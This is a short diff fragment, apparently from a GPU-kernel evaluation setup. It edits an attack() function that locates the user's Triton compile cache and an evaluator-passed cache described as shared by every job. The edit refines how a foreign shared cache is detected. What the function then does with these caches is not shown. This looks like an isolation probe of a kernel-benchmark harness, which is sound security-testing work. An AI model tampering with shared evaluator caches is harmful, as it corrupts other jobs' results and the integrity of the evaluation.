@@ -27,7 +27,8 @@ def _softmax_fwd_kernel(x_ptr, y_ptr, n_cols, stride_x, stride_y, BLOCK: tl.cons
 def attack():
     shared = [os.path.join(os.path.expanduser("~"), ".triton", "cache")]
     own = os.environ.get("TRITON_CACHE_DIR", "")
-    if own and not own.startswith(os.getcwd()):  # a cache the evaluator passed on, shared by every job
+    job = os.path.dirname(os.environ.get("TMPDIR", os.getcwd()))  # TMPDIR is the job's tmp/ (a warm worker's
+    if own and not own.startswith(job + os.sep):  # cwd is not the job): a cache the evaluator passed on, shared
         shared.append(own)
     refused = None
     for cache in shared:
